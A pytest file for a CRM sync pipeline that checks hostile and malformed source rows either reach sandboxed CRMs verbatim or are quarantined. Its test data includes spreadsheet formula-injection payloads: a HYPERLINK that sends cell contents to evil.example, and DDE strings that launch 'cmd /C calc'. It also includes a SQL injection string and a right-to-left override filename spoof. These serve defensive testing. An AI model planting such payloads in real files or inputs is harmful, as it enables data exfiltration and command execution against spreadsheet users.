"""Hostile and broken source tables through the real pipeline (source -> validated -> upsert,
materialized against the sandbox): every source row ends either in the CRM with its values
verbatim or in the quarantine with a reason, never both, never neither; a broken table fails
its own sync with an error naming the table (and the column or line), never with a bare
traceback, and never takes a valid row of another table or a valid neighbour down with it."""

from __future__ import annotations

import json
import math
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest
import yaml

from crm_sync.pipeline.assets import build_assets
from crm_sync.definitions import build_resources
from crm_sync.extract.sources import SourceResource
from crm_sync.spec import PROJECT_ROOT, load_spec
from crm_sync_tests.conftest import stored, validation_checks
from crm_sync_tests.bundled_spec import bundled_raw, bundled_unlinked

DAY = "2026-11-04"
UPDATED = f"{DAY}T12:00:00Z"
MB = 1_048_576

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _columns(table: str) -> list[str]:
    return list(pd.read_csv(PROJECT_ROOT / "data" / f"{table}.csv", nrows=0).columns)


def _table(table: str, rows: list[dict]) -> pd.DataFrame:
    frame = pd.DataFrame(rows)
    for col in _columns(table):
        if col not in frame:
            frame[col] = ""
    return frame[_columns(table)].fillna("")


def _write_csv(frame: pd.DataFrame, path: Path) -> None:
    frame.to_csv(path, index=False, encoding="utf-8")


def _materialize(spec, data: Path, syncs: list[str], raise_on_error: bool = True):
    names = set()
    for name in syncs:
        sync = spec.sync(name)
        names |= {f"source_{sync.source}", f"validated_{sync.name}", sync.name}
    assets = [a for a in build_assets(spec) if a.key.path[-1] in names]
    resources = {**build_resources(), "source": SourceResource(data_dir=str(data))}
    return dg.materialize(assets, partition_key=DAY, resources=resources,
                          raise_on_error=raise_on_error)


def _promise(store, sync_name: str, keys: set[str], in_crm: dict[str, dict]) -> dict[str, dict]:
    """Each key ends in exactly one of the CRM and the quarantine; return the quarantine."""
    quarantine = store.quarantine_frame(sync_name).set_index("source_key")
    q = {k: quarantine.loc[k].to_dict() for k in quarantine.index}
    for key in keys:
        assert (key in in_crm) != (key in q), (key, "in CRM" if key in in_crm else "nowhere",
                                               q.get(key))
        if key in q:
            assert q[key]["error_code"] and q[key]["message"], q[key]
    assert set(q) <= keys | {k for k in q if k.startswith("<no ")}  # keyless: a digest
    return q


def _step_errors(events) -> str:
    """The failed steps' errors, with their causes, as one text."""
    texts = []
    for event in events:
        error = event.step_failure_data.error
        while error is not None:
            texts.append(f"{error.cls_name}: {error.message}")
            error = error.cause
    return "\n".join(texts)


# -- Superleap: strings of every kind, bad timestamps, NULs, 1 MB ----------------------------
def test_hostile_strings_reach_superleap_verbatim_or_the_quarantine(sandbox, store, tmp_path):
    spec = bundled_unlinked()
    sync = spec.sync("leads_to_superleap")
    base = {"superleap_id": "", "email": "", "phone": "+1-555-123-4567", "status": "new",
            "source": "web", "updated_at": UPDATED}
    verbatim = {
        "EMOJI": {"name": "Zoë 😀🚀👩‍👩‍👧 ok", "status": "🔥"},
        "RTL": {"name": "مرحبا بالعالم שלום", "status": "\u202egnp.exe"},  # RLO override
        "NEWLINE": {"name": 'line one\nline "two", with, commas\r\nthree', "status": "a\tb"},
        "JSONLIKE": {"name": '{"id": "g1koYv_2lLKYVan", "$where": "1"}', "status": "[1, 2]"},
        "FORMULA0": {"name": FORMULAS[0]},
        "FORMULA1": {"name": FORMULAS[1], "status": FORMULAS[3]},
        "FORMULA2": {"name": FORMULAS[2]},
        "SQLISH": {"name": "Robert'); DROP TABLE leads;--"},
        "BIG": {"name": "x" * MB},
        "QUOTES": {"name": "\"'`\\", "email": "o'brien+x@example.com"},
        "DUP": {"name": "newest copy", "updated_at": f"{DAY}T15:00:00Z"},
    }
    quarantined = {
        "NUL": ({"name": "nul\x00byte"}, "INVALID_CHARACTER", "name"),
        "FORMULA_EMAIL": ({"name": "F", "email": FORMULAS[0]}, "PARSE_INVALID_FORMAT", "email"),
        "FORMULA_ID": ({"name": "F", "superleap_id": "=1+1"}, "INVALID_ID_FORMAT",
                       "superleap_id"),
        "NO_NAME": ({"name": "   "}, "REQUIRED_FIELD_MISSING", "name"),
        "NO_UPDATED": ({"name": "N", "updated_at": ""}, "INVALID_UPDATED_AT", "updated_at"),
        "BAD_UPDATED": ({"name": "N", "updated_at": "yesterday at noon"}, "INVALID_UPDATED_AT",
                        "updated_at"),
        "INF_UPDATED": ({"name": "N", "updated_at": "infinity"}, "INVALID_UPDATED_AT",
                        "updated_at"),
        "BAD_MONTH": ({"name": "N", "updated_at": "2026-13-45T00:00:00Z"}, "INVALID_UPDATED_AT",
                      "updated_at"),
    }
    rows = [{**base, "lead_id": f"OK-{i}", "name": f"Neighbour {i}",
             "email": f"ok{i}@example.com"} for i in range(5)]
    rows += [{**base, "lead_id": key, **values} for key, values in verbatim.items()]
    rows += [{**base, "lead_id": key, **values} for key, (values, _, _) in quarantined.items()]
    rows.append({**base, "lead_id": "DUP", "name": "older copy"})  # same key, older
    rows.append({**base, "lead_id": "", "name": "No key"})  # no source key at all
    rows.append({**base, "lead_id": "OTHER_DAY", "name": "Later",
                 "updated_at": "2026-11-05T08:00:00Z"})  # another partition: not this run's
    data = tmp_path / "data"
    data.mkdir()
    frame = _table("leads", rows)
    _write_csv(frame, data / "leads.csv")

    result = _materialize(spec, data, [sync.name])
    assert result.success

    records = {r["external_id"]: r for r in stored(sandbox, "superleap", "lead")}
    expected_crm = {f"OK-{i}" for i in range(5)} | set(verbatim)
    assert set(records) == expected_crm
    for key, values in verbatim.items():
        for column, value in values.items():
            if column in ("name", "status", "email"):
                assert records[key][column] == value, (key, column)  # byte for byte
    assert records["DUP"]["name"] == "newest copy"

    keys = expected_crm | set(quarantined)
    q = _promise(store, sync.name, keys, records)
    for key, (_, code, column) in quarantined.items():
        assert q[key]["error_code"] == code, (key, q[key]["message"])
        assert q[key]["column_name"] == column
    for key in ("NO_UPDATED", "BAD_UPDATED", "INF_UPDATED", "BAD_MONTH"):
        assert "no daily partition" in q[key]["message"]
        assert q[key]["partition"] is None
    assert "yesterday at noon" in q["BAD_UPDATED"]["message"]
    assert "NUL" in q["NUL"]["message"]
    nokey = [k for k in q if k.startswith("<no lead_id: ")]
    assert len(nokey) == 1 and q[nokey[0]]["error_code"] == "REQUIRED_FIELD_MISSING"
    assert "OTHER_DAY" not in q and "OTHER_DAY" not in records

    # The source asset says how many rows have no valid updated_at, and the threshold check
    # (50%) is not failed by rows that belong to no partition.
    source_meta = result.asset_materializations_for_node("source_leads")[0].metadata
    assert source_meta["rows_without_valid_updated_at"].value == 4
    assert source_meta["rows"].value == len(frame) - 4 - 1  # OTHER_DAY is not read
    [check] = validation_checks(result)
    assert check.passed


def test_updated_at_rows_are_reported_with_every_partition_and_recover(sandbox, store, tmp_path):
    """A partition with only orphans: the check passes (nothing of its own failed), the orphan
    is quarantined; once its updated_at is fixed it is synced and leaves the quarantine."""
    spec = bundled_unlinked()
    data = tmp_path / "data"
    data.mkdir()
    row = {"lead_id": "ORPHAN", "name": "Orphan", "updated_at": "not a date", "status": "new"}
    _write_csv(_table("leads", [row]), data / "leads.csv")
    result = _materialize(spec, data, ["leads_to_superleap"])
    assert result.success and validation_checks(result)[0].passed
    assert list(store.quarantine_frame()["error_code"]) == ["INVALID_UPDATED_AT"]
    assert stored(sandbox, "superleap", "lead") == []

    _write_csv(_table("leads", [{**row, "updated_at": UPDATED}]), data / "leads.csv")
    assert _materialize(spec, data, ["leads_to_superleap"]).success
    assert [r["external_id"] for r in stored(sandbox, "superleap", "lead")] == ["ORPHAN"]
    assert store.quarantine_frame().empty


# -- Salesforce: numbers -----------------------------------------------------------------------
def test_numeric_overflow_nan_and_infinity_are_quarantined_not_sent(sandbox, store, tmp_path):
    spec = bundled_unlinked()
    sync = spec.sync("companies_to_salesforce")
    base = {"name": "Acme", "domain": "acme.example", "industry": "Retail", "employees": "42",
            "phone": "+1-555-123-4567", "country": "US", "annual_revenue": "1000.50",
            "updated_at": UPDATED}
    good = {
        **{f"CO-OK-{i}": {} for i in range(8)},  # valid neighbours (the threshold is 50%)
        "CO-BIGNUM": {"annual_revenue": "123456789012.5"},
        "CO-EXP": {"annual_revenue": "1.5e3"},
        "CO-NEG": {"employees": "-0", "annual_revenue": "-12"},
        "CO-FORMULA": {"name": FORMULAS[0], "industry": FORMULAS[1]},
        "CO-JSONLIKE": {"name": '{"Name": "injected"}'},
    }
    bad = {
        "CO-INT-OVERFLOW": {"employees": "99999999999999999999"},
        "CO-INT-FRACTION": {"employees": "12.5"},
        "CO-INT-TEXT": {"employees": "twelve"},
        "CO-NAN": {"annual_revenue": "NaN"},
        "CO-INF": {"annual_revenue": "inf"},
        "CO-NEG-INF": {"annual_revenue": "-Infinity"},
        "CO-OVERFLOW": {"annual_revenue": "1e999"},  # the format fits; the value is infinite
        "CO-HEX": {"annual_revenue": "0x1F"},
    }
    rows = [{**base, "company_id": k, **v} for k, v in {**good, **bad}.items()]
    rows.append({**base, "company_id": "CO-HUGE", "name": "N" * MB})  # longer than Name allows
    data = tmp_path / "data"
    data.mkdir()
    _write_csv(_table("companies", rows), data / "companies.csv")

    assert _materialize(spec, data, [sync.name]).success
    records = {r["External_Id__c"]: r for r in stored(sandbox, "salesforce", "Account")}
    assert set(records) == set(good)
    assert records["CO-BIGNUM"]["AnnualRevenue"] == 123456789012.5
    assert records["CO-EXP"]["AnnualRevenue"] == 1500
    assert records["CO-FORMULA"]["Name"] == FORMULAS[0]
    assert records["CO-FORMULA"]["Industry"] == FORMULAS[1]
    for record in records.values():
        for value in record.values():
            assert not (isinstance(value, float) and not math.isfinite(value))
    q = _promise(store, sync.name, set(good) | set(bad) | {"CO-HUGE"}, records)
    for key in bad:
        assert q[key]["error_code"] == "PARSE_INVALID_FORMAT", (key, q[key]["message"])
        assert q[key]["stage"] == "validation"
    assert "finite" in q["CO-OVERFLOW"]["message"]
    assert q["CO-HUGE"]["stage"] == "crm" and q["CO-HUGE"]["error_code"] == "STRING_TOO_LONG"


# -- Brevo: JSON attributes and byte limits ---------------------------------------------------
def test_json_nan_and_oversized_records_are_quarantined_for_brevo(sandbox, store, tmp_path):
    spec = bundled_unlinked()
    sync = spec.sync("projects_to_brevo")
    base = {"name": "Apollo", "status": "active", "budget": "1000", "start_date": "2026-10-01",
            "company_id": "CO-1", "custom_fields": "", "updated_at": UPDATED}
    good = {
        **{f"P-OK-{i}": {} for i in range(6)},  # valid neighbours (the threshold is 50%)
        "P-STRINGS": {"name": '{"identifiers": {"id": 1}}', "status": FORMULAS[1],
                      "company_id": "🚀 שלום", "custom_fields": json.dumps({"cf_0": 1.5})},
        "P-FORMULA": {"name": FORMULAS[0]},
    }
    bad = {
        "P-NAN": ({"custom_fields": '{"score": NaN}'}, "PARSE_INVALID_FORMAT"),
        "P-INF": ({"custom_fields": '{"score": -Infinity}'}, "PARSE_INVALID_FORMAT"),
        "P-OVERFLOW": ({"custom_fields": '{"score": 1e999}'}, "PARSE_INVALID_FORMAT"),
        "P-ARRAY": ({"custom_fields": "[1, 2]"}, "PARSE_INVALID_FORMAT"),
        "P-1MB": ({"name": "y" * MB}, "RECORD_TOO_LARGE"),
        "P-BUDGET-NAN": ({"budget": "nan"}, "PARSE_INVALID_FORMAT"),
    }
    rows = [{**base, "project_id": k, **v} for k, v in good.items()]
    rows += [{**base, "project_id": k, **v} for k, (v, _) in bad.items()]
    data = tmp_path / "data"
    data.mkdir()
    _write_csv(_table("projects", rows), data / "projects.csv")

    assert _materialize(spec, data, [sync.name]).success
    records = {r["identifiers"]["ext_id"]: r for r in stored(sandbox, "brevo", "project")}
    assert set(records) == set(good)
    attributes = records["P-STRINGS"]["attributes"]
    assert attributes["name"] == '{"identifiers": {"id": 1}}'
    assert attributes["status"] == FORMULAS[1] and attributes["company_ext_id"] == "🚀 שלום"
    assert attributes["cf_0"] == 1.5
    assert records["P-FORMULA"]["attributes"]["name"] == FORMULAS[0]
    q = _promise(store, sync.name, set(good) | set(bad), records)
    for key, (_, code) in bad.items():
        assert q[key]["error_code"] == code, (key, q[key]["message"])


# -- HubSpot: duplicate matching keys, formulas ------------------------------------------------
def test_duplicate_emails_keep_the_newest_and_quarantine_the_rest_for_hubspot(sandbox, store,
                                                                            tmp_path):
    spec = bundled_unlinked()
    sync = spec.sync("contacts_to_hubspot")
    base = {"first_name": "Ada", "last_name": "Lovelace", "phone": "", "job_title": "CTO",
            "lifecycle_stage": "lead", "company_id": "CO-1", "updated_at": UPDATED}
    rows = [
        {**base, "contact_id": "C-OLD", "email": "same@example.com", "job_title": "old"},
        {**base, "contact_id": "C-NEW", "email": "same@example.com", "job_title": "new",
         "updated_at": f"{DAY}T13:00:00Z"},
        {**base, "contact_id": "C-FORMULA", "email": "formula@example.com",
         "first_name": FORMULAS[0], "job_title": FORMULAS[1]},
        {**base, "contact_id": "C-EMOJI", "email": "emoji@example.com", "first_name": "Zoë 😀",
         "last_name": "בן-דוד"},
    ]
    data = tmp_path / "data"
    data.mkdir()
    _write_csv(_table("contacts", rows), data / "contacts.csv")
    assert _materialize(spec, data, [sync.name]).success
    records = {r["properties"]["crm_sync_id"]: r["properties"]
               for r in stored(sandbox, "hubspot", "contacts")}
    assert set(records) == {"C-NEW", "C-FORMULA", "C-EMOJI"}
    assert records["C-NEW"]["jobtitle"] == "new"
    assert records["C-FORMULA"]["firstname"] == FORMULAS[0]
    assert records["C-FORMULA"]["jobtitle"] == FORMULAS[1]
    assert records["C-EMOJI"]["lastname"] == "בן-דוד"
    q = _promise(store, sync.name, {"C-OLD", "C-NEW", "C-FORMULA", "C-EMOJI"}, records)
    assert q["C-OLD"]["error_code"] == "DUPLICATE_MATCHING_KEY"


# -- broken files: one run, one table per case -------------------------------------------------
def _leads_spec(tmp_path: Path, tables: list[str]):
    """A spec with one Superleap sync per table (each table a case)."""
    base = bundled_raw()
    template = next(s for s in base["syncs"] if s["name"] == "leads_to_superleap")
    syncs = [{**template, "name": f"sync_{t}", "source": t, "schedule": None} for t in tables]
    path = tmp_path / "syncs.yaml"
    path.write_text(yaml.safe_dump({"start_date": base["start_date"], "syncs": syncs}))
    return load_spec(path)


def _lead(key: str, **values) -> dict:
    return {"lead_id": key, "name": f"Name {key}", "email": f"{key.lower()}@example.com",
            "phone": "", "status": "new", "superleap_id": "", "source": "web",
            "updated_at": UPDATED, **values}


def test_broken_files_fail_their_own_sync_with_a_clear_error(sandbox, store, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    good = pd.DataFrame([_lead("GOOD-1"), _lead("GOOD-2")])
    _write_csv(good, data / "good.csv")
    _write_csv(good.drop(columns=["status"]).assign(lead_id=["MISS-1", "MISS-2"]),
               data / "missing.csv")
    _write_csv(good.drop(columns=["updated_at"]).assign(lead_id=["NOTS-1", "NOTS-2"]),
               data / "no_updated_at.csv")
    _write_csv(good.assign(lead_id=["EXTRA-1", "EXTRA-2"], unexpected="=1+1", more="x"),
               data / "extra.csv")
    (data / "empty.csv").write_bytes(b"")
    (data / "header_only.csv").write_text(",".join(good.columns) + "\n")
    (data / "bom.csv").write_bytes(
        good.assign(lead_id=["BOM-1", "BOM-2"]).to_csv(index=False).encode("utf-8-sig"))
    (data / "latin1.csv").write_bytes(
        good.assign(lead_id=["LAT-1", "LAT-2"], name=["Zoë", "René"]).to_csv(index=False)
        .encode("latin-1"))
    # Typed columns (a parquet written by another tool): read as text like every source.
    with duckdb.connect() as conn:
        conn.execute(
            "COPY (SELECT 'PQ-' || i AS lead_id, 'Parquet ' || i AS name, "
            "'pq' || i || '@example.com' AS email, NULL AS phone, 'new' AS status, "
            "NULL AS superleap_id, i AS score, i * 1.5 AS ratio, "
            "TIMESTAMPTZ '2026-11-04 12:00:00+00' + to_minutes(i) AS updated_at "
            f"FROM range(3) t(i)) TO '{data / 'typed.parquet'}' (FORMAT parquet)")

    tables = ["good", "missing", "no_updated_at", "extra", "empty", "header_only", "bom",
              "latin1", "typed"]
    spec = _leads_spec(tmp_path, tables)
    result = _materialize(spec, data, [f"sync_{t}" for t in tables], raise_on_error=False)

    def failed(table: str) -> str:
        events = [e for e in result.get_step_failure_events()
                  if e.step_key in (f"source_{table}", f"validated_sync_{table}")]
        assert events, f"{table}: expected a clear failure"
        return _step_errors(events)

    text = failed("missing")
    assert "SourceTableError" in text and "'missing'" in text and "'status'" in text
    text = failed("no_updated_at")
    assert "SourceError" in text and "'no_updated_at' has no column updated_at" in text
    text = failed("empty")
    assert "SourceError" in text and "'empty'" in text and "empty file" in text
    text = failed("latin1")
    assert "SourceError" in text and "'latin1'" in text and "Line" in text

    records = {r["external_id"]: r for r in stored(sandbox, "superleap", "lead")}
    assert set(records) == {"GOOD-1", "GOOD-2", "EXTRA-1", "EXTRA-2", "BOM-1", "BOM-2",
                            "PQ-0", "PQ-1", "PQ-2"}
    assert "unexpected" not in records["EXTRA-1"]  # unmapped columns are never sent
    assert records["PQ-2"]["name"] == "Parquet 2"
    header_only = result.asset_materializations_for_node("sync_header_only")[0].metadata
    assert header_only["rows_in"].value == 0 and header_only["requests"].value == 0
    assert store.quarantine_frame().empty
